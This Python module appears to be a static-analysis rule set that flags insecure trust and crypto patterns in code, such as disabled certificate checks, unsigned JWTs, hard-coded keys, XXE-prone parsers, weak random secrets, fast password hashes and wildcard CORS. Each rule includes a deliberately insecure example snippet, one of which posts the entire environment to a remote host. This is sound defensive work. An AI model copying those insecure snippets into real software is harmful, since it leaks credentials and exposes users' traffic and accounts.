"""What is trusted without a proof: certificates, tokens, entities, weak secrets; and what leaves the machine."""

from __future__ import annotations

import ast
import re

from orchestrator.gates.flow.calls import Call
from orchestrator.gates.flow.capabilities import capability_of
from orchestrator.gates.flow.names import last
from orchestrator.gates.flow.rule import ANY_INPUT, Family, Rule, Say, dirty, nodes
from orchestrator.gates.flow.values import NOTHING, Value, constant
from orchestrator.models.gate import Disposition

__all__ = ["FAMILY"]

TLS = Rule(
    "HR701",
    295,
    "a certificate is not checked",
    "Anybody on the way can read and change what is sent.",
    "leave verification on; name your own authority with verify='ca.pem'",
    "import httpx\nhttpx.Client(verify=False)\n",
    "import httpx\nhttpx.Client(verify='ca.pem')\n",
)
TOKEN = Rule(
    "HR702",
    347,
    "a token is taken without checking its signature",
    "Anybody can write a token that says who he is.",
    "jwt.decode(token, key, algorithms=['RS256'])",
    "import jwt\njwt.decode(t, options={'verify_signature': False})\n",
    "import jwt\njwt.decode(token, key, algorithms=['RS256'])\n",
)
KEY = Rule(
    "HR703",
    321,
    "a key stands in the source",
    "Whoever reads the code can sign and decrypt.",
    "read the key from a secret store",
    "import jwt\njwt.encode({'a': 1}, 'secret', algorithm='HS256')\n",
    "import jwt\njwt.encode({'a': 1}, key, algorithm='HS256')\n",
    "high",
    Disposition.PERSON,
)
ENTITIES = Rule(
    "HR704",
    611,
    "XML may name files and addresses to be read",
    "An entity in the document brings the content of local files, or calls other machines.",
    "parse with defusedxml, or XMLParser(resolve_entities=False, no_network=True)",
    "from lxml import etree\netree.XMLParser(resolve_entities=True)\n",
    "from lxml import etree\netree.XMLParser(resolve_entities=False, no_network=True)\n",
)
RANDOM = Rule(
    "HR705",
    338,
    "a secret comes from a generator that can be predicted",
    "A few values of random tell all the next ones.",
    "use the module secrets",
    "import random\ntoken = ''.join(random.choice('abc') for _ in range(20))\n",
    "import secrets\ntoken = secrets.token_hex(20)\n",
)
PASSWORD = Rule(
    "HR706",
    916,
    "a password is hashed by a fast function",
    "Thousands of millions of guesses a second.",
    "use hashlib.scrypt, argon2 or bcrypt with a salt",
    "import hashlib\n\n\ndef keep(password):\n    return hashlib.sha256(password.encode()).hexdigest()\n",
    "import hashlib\n\n\ndef keep(password, s):\n    return hashlib.scrypt(password, salt=s, n=2**14, r=8, p=1)\n",
)
LEAK = Rule(
    "HR707",
    200,
    "the environment or credentials leave the machine",
    "Keys and tokens of whoever runs the program are sent away.",
    "send only what is needed, by name",
    "import os\nimport httpx\nhttpx.post('https://example.com', json=dict(os.environ))\n",
    "import httpx\nhttpx.post('https://example.com', json={'a': 1})\n",
)
CIPHER = Rule(
    "HR708",
    329,
    "encryption with a fixed start or block by block",
    "Equal texts give equal results, and can be told apart and exchanged.",
    "use AES-GCM with a fresh nonce from secrets",
    "from Crypto.Cipher import AES\nAES.new(key, AES.MODE_CBC, b'0000000000000000')\n",
    "import os\nfrom Crypto.Cipher import AES\nAES.new(key, AES.MODE_GCM, os.urandom(12))\n",
)
ORIGIN = Rule(
    "HR709",
    942,
    "every site may act with the user's rights",
    "Another site's script reads answers with the reader's cookies.",
    "name the origins",
    "from flask_cors import CORS\nCORS(app, origins='*', supports_credentials=True)\n",
    "from flask_cors import CORS\nCORS(app, origins=['https://example.com'], supports_credentials=True)\n",
    "medium",
)

_HTTP = (
    "requests.",
    "httpx.",
    "aiohttp.",
    "urllib3.",
    "urllib.request.",
    "websockets.",
    "pymongo.",
    "redis.",
    "elasticsearch.",
)
_VERBS = frozenset(["get", "post", "put", "patch", "delete", "head", "options", "request", "stream", "send", "fetch"])
_OFF = ("verify", "ssl", "verify_ssl", "check_hostname", "ssl_verify", "validate_certs", "assert_hostname")
_PARSES = frozenset({"parse", "fromstring", "XML", "iterparse", "parseString", "fromstringlist"})
_FAST = frozenset(
    f"hashlib.{n}"
    for n in (
        "md5",
        "sha1",
        "sha224",
        "sha256",
        "sha384",
        "sha512",
        "sha3_256",
        "sha3_512",
        "new",
        "blake2b",
        "blake2s",
    )
)
_PASSWORD = re.compile(r"passw(?:or)?d|passphrase|\bpwd\b", re.IGNORECASE)
_SECRET_NAME = re.compile(
    r"token|secret|passw|(?:^|_)otp(?:_|$)|nonce|session_?id|api_?key|(?:^|_)salt|csrf|reset_?code|(?:^|_)iv$",
    re.IGNORECASE,
)
_RANDOM = frozenset(
    {"random", "choice", "choices", "randint", "randrange", "sample", "getrandbits", "randbytes", "uniform", "shuffle"}
)
_BLOCKS = frozenset(
    {"Crypto.Cipher.AES.new", "Cryptodome.Cipher.AES.new", "Crypto.Cipher.DES3.new", "Crypto.Cipher.DES.new"}
)


def _on_call(call: Call, say: Say) -> None:
    _tls(call, say)
    _token(call, say)
    _entities(call, say)
    _crypto(call, say)
    _leak(call, say)
    if call.calls_method(frozenset({"CORS", "CORSMiddleware", "add_middleware"})):
        origins = call.keywords.get("origins") or call.keywords.get("allow_origins")
        with_cookies = call.keywords.get("supports_credentials") or call.keywords.get("allow_credentials")
        if origins is not None and with_cookies is not None and with_cookies.const is True and _star(origins):
            say(ORIGIN, call.node, "any origin with credentials")


def _star(value: Value) -> bool:
    return value.text == "*" or any(item.text == "*" for item in value.items or ())


def _tls(call: Call, say: Say) -> None:
    web = any(name.startswith(_HTTP) for name in call.names) or call.calls_method(_VERBS)
    for keyword in _OFF:
        value = call.keywords.get(keyword)
        if web and value is not None and value.const is False:
            say(TLS, call.node, f"{keyword}=False")
    required = call.keywords.get("cert_reqs")
    if required is not None and (required.text == "CERT_NONE" or "ssl.CERT_NONE" in required.refs):
        say(TLS, call.node, "cert_reqs is CERT_NONE")
    if call.names & {"ssl._create_unverified_context", "ssl._create_stdlib_context"}:
        say(TLS, call.node, "a context that verifies nothing")
    for name in call.names:
        if name.startswith("set:"):
            _tls_setting(call, last(name), name, say)
    option = call.arg(0)
    if (
        call.calls_method(frozenset({"setopt"}))
        and option is not None
        and len(call.args) > 1
        and call.args[1].const == 0
    ) and any(last(r) in {"SSL_VERIFYPEER", "SSL_VERIFYHOST"} for r in option.refs):
        say(TLS, call.node, "verification is switched off")


def _tls_setting(call: Call, attribute: str, name: str, say: Say) -> None:
    value = call.args[0]
    if (
        attribute in {"check_hostname", "verify"}
        and value.const is False
        and (attribute == "check_hostname" or "ession" in name or "lient" in name)
    ):
        say(TLS, call.node, f"{attribute} = False")
    if attribute == "verify_mode" and "ssl.CERT_NONE" in value.refs:
        say(TLS, call.node, "verify_mode = CERT_NONE")
    if name == "set:ssl._create_default_https_context" and value.refs & {
        "ssl._create_unverified_context",
        "ssl._create_stdlib_context",
    }:
        say(TLS, call.node, "every HTTPS connection of the program")


def _token(call: Call, say: Say) -> None:
    if call.names & {"jwt.decode", "jose.jwt.decode", "jwt.PyJWT().decode", "jwt.api_jwt.decode"}:
        options = call.arg(3, "options")
        unsigned = options.member("verify_signature") if options is not None else None
        verify = call.arg(2, "verify")
        algorithms = call.keywords.get("algorithms")
        none = algorithms is not None and any(
            (i.text or "").casefold() == "none" for i in algorithms.items or (algorithms,)
        )
        if (unsigned is not None and unsigned.const is False) or (verify is not None and verify.const is False) or none:
            say(TOKEN, call.node, "jwt.decode")
        _key(call, call.arg(1, "key"), say)
    if call.names & {"jwt.encode", "jose.jwt.encode"}:
        algorithm = call.arg(2, "algorithm")
        if algorithm is not None and (algorithm.const is None or (algorithm.text or "").casefold() == "none"):
            say(TOKEN, call.node, "a token without a signature")
        _key(call, call.arg(1, "key"), say)
    if call.calls_method(frozenset({"get_unverified_claims"})):
        say(TOKEN, call.node, "claims that nobody verified")


def _key(call: Call, key: Value | None, say: Say) -> None:
    if key is not None and isinstance(key.const, str | bytes) and key.const:
        say(KEY, call.node, "a constant as key")


def _entities(call: Call, say: Say) -> None:
    if any(last(n) in {"XMLParser", "XMLPullParser", "ETCompatXMLParser"} and "lxml" in n for n in call.names):
        on = [call.keywords.get(name) for name in ("resolve_entities", "load_dtd")]
        network = call.keywords.get("no_network")
        if any(v is not None and v.const is True for v in on) or (network is not None and network.const is False):
            say(ENTITIES, call.node, "XMLParser that follows entities")
    parses = any(n.startswith(("lxml.etree.", "lxml.objectify.")) and last(n) in _PARSES for n in call.names)
    if parses and call.arg(1, "parser") is None and dirty(call.arg(0, "source", "text"), "xml", ANY_INPUT):
        say(ENTITIES, call.node, "lxml on data from outside with its default parser")
    feature = call.arg(0) if call.calls_method(frozenset({"setFeature"})) and call.args[1:2] == (constant(1),) else None
    if feature is None and call.calls_method(frozenset({"setFeature"})) and call.args[1:2] == (constant(value=True),):
        feature = call.arg(0)
    if feature is not None and any("external" in text for text in (*feature.refs, feature.text or "")):
        say(ENTITIES, call.node, "external entities are switched on")
    off = call.keywords.get("disable_entities") or call.keywords.get("forbid_entities")
    if off is not None and off.const is False:
        say(ENTITIES, call.node, "entities are allowed")


def _crypto(call: Call, say: Say) -> None:
    name = call.is_one_of(_FAST)
    if name and isinstance(call.node, ast.Call) and any(_PASSWORD.search(ast.unparse(a)) for a in call.node.args[:2]):
        say(PASSWORD, call.node, name)
    block = call.is_one_of(_BLOCKS)
    if block:
        mode, start = call.arg(1, "mode"), call.arg(2, "iv", "IV", "nonce")
        if mode is not None and any(last(r) == "MODE_ECB" for r in mode.refs):
            say(CIPHER, call.node, "MODE_ECB")
        elif start is not None and start.const is not NOTHING:
            say(CIPHER, call.node, "a constant initialisation vector")


def _leak(call: Call, say: Say) -> None:
    if not any(capability_of(n) == "network" or last(n) in {"sendall", "send", "sendto"} for n in call.names):
        return
    for value in call.every():
        origin = dirty(value, "leak", frozenset({"environ", "secret"}))
        if origin:
            say(
                LEAK,
                call.node,
                f"{call.method()} of {'the whole environment' if origin == 'environ' else 'a file of credentials'}",
            )
            return


def _on_tree(tree: ast.Module, say: Say) -> None:
    imported = {
        a.asname or a.name
        for n in nodes(tree)
        if isinstance(n, ast.ImportFrom) and n.module == "random"
        for a in n.names
    }
    for node in nodes(tree):
        if isinstance(node, ast.Assign):
            names = " ".join(_target(t) for t in node.targets)
            if _SECRET_NAME.search(names) and _random(node.value, imported):
                say(RANDOM, node, names)
        elif isinstance(node, ast.FunctionDef) and _SECRET_NAME.search(node.name):
            for inner in ast.walk(node):
                if isinstance(inner, ast.Return) and inner.value is not None and _random(inner.value, imported):
                    say(RANDOM, inner, node.name)


def _target(node: ast.expr) -> str:
    return node.id if isinstance(node, ast.Name) else node.attr if isinstance(node, ast.Attribute) else ""


def _random(node: ast.expr, imported: set[str]) -> bool:
    for part in ast.walk(node):
        if not isinstance(part, ast.Call):
            continue
        function = part.func
        if (
            isinstance(function, ast.Attribute)
            and function.attr in _RANDOM
            and isinstance(function.value, ast.Name)
            and function.value.id == "random"
        ):
            return True
        if isinstance(function, ast.Name) and function.id in imported & _RANDOM:
            return True
    return False


FAMILY = Family("trust", (TLS, TOKEN, KEY, ENTITIES, RANDOM, PASSWORD, LEAK, CIPHER, ORIGIN), _on_call, None, _on_tree)
